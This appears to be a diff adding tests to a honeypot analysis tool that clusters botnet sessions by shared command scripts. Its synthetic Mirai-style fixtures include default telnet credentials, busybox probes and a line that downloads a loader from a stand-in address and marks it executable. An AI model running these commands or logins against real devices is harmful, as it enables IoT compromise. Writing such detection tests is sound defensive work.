@@ -538,3 +538,66 @@ def test_a_botnet_does_not_discount_its_own_script_by_typing_variants_of_it() ->
     # fetched the loader linked (pooled recall 0.24); the bots that skipped it now join through
     # the lines they share wherever two of them typed the same script.
     assert sum(recalls) / len(recalls) >= 0.5
+
+
+PartialBuild = tuple[list[AttackSession], list[str], list[str], list[str]]
+
+
+def _build_with_partial_runs(rng: random.Random) -> PartialBuild:
+    """A loader build's bots (opening, probes, loader), two bots that stopped after one probe and
+    two that typed only the opening: (sessions, loaders, stopped, opening only)."""
+    loader_url = "http://203.0.113.9/bins/mips"
+    opening = ["sh", "shell"]
+    probe = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox {token}"
+    loaders, stopped, bare = ([random_ip(rng) for _ in range(n)] for n in (16, 2, 2))
+    sessions = []
+    for ip in loaders + stopped + bare:
+        token = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(7))
+        script = [*opening, f"/bin/busybox {token}"]
+        downloads: list[tuple[str, str | None]] = []
+        if ip not in bare:
+            script.append(probe.format(token=token))
+        if ip in loaders:
+            drop = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))
+            script.append(f"/bin/busybox wget {loader_url} -O - > {drop}; /bin/busybox chmod 777 {drop}")
+            downloads.append((loader_url, "9d" * 32))
+        sessions.append(
+            session(
+                ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
+                commands=script, downloads=downloads, port=23,
+            )
+        )  # fmt: skip
+    return sessions, loaders, stopped, bare
+
+
+def test_bots_that_stop_part_way_through_their_toolkit_join_the_bots_that_ran_all_of_it() -> None:
+    """A script past its toolkit's opening, run in order inside the toolkit's longer variants, is
+    held by their sources too when chance sharing is tested; a bare opening (every Mirai-family
+    build types one) joins nobody."""
+    for seed in (41, 42, 43):
+        rng = random.Random(seed)
+        sessions, loaders, stopped, bare = _build_with_partial_runs(rng)
+        result = analyze_sessions(sessions + background(rng, 80, span_s=86400), {})
+        groups = _linked(result)
+        botnet = next(g for g in groups if set(loaders) <= g)
+        assert set(stopped) <= botnet
+        assert not set(bare) & set().union(*groups)
+
+
+def test_unrelated_intruders_opening_with_the_same_recon_one_liners_stay_apart() -> None:
+    """``uname -a; whoami; id`` opens the sessions of countless unrelated actors: a script of
+    recon one-liners known to be everyone's (``COMMON_COMMANDS``) is not a toolkit fingerprint,
+    however many sources in the window type it (61 of 200 such intruders were merged before)."""
+    for seed in range(3):
+        rng = random.Random(seed)
+        intruders = [random_ip(rng) for _ in range(40)]
+        rest = [line for line in RECON_LINES if line not in ("uname -a", "whoami", "id")]
+        sessions = [
+            session(
+                ip, rng.uniform(0, 86400), logins=[("root", "admin")], success=True,
+                commands=["uname -a", "whoami", "id", *rng.sample(rest, rng.randint(1, 4))],
+            )
+            for ip in intruders
+        ]  # fmt: skip
+        result = analyze_sessions(sessions + background(rng, 60, span_s=86400), {})
+        assert _merged_with(result, set(intruders)) == 0
